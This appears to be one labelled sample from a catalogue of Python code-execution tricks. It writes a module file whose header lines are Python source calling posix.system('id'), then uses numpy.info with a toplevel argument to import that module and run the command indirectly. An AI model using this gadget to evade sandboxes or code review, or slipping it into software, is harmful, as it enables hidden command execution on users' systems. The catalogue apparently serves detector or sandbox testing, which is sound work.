# class: second-stage | technique: numpy.savetxt writes jobstats.py whose header lines are Python source; numpy.info(..., toplevel="jobstats") __import__s that module | effect: runs `id`
import numpy as np

data = np.array([[1.0, 2.0], [3.0, 4.0]])
np.savetxt(
    "jobstats.py",
    data,
    header="import posix\nposix.system('id')\nTABLE = '''",
    footer="'''",
    comments="",
    delimiter=",",
)
np.info("TABLE", toplevel="jobstats")
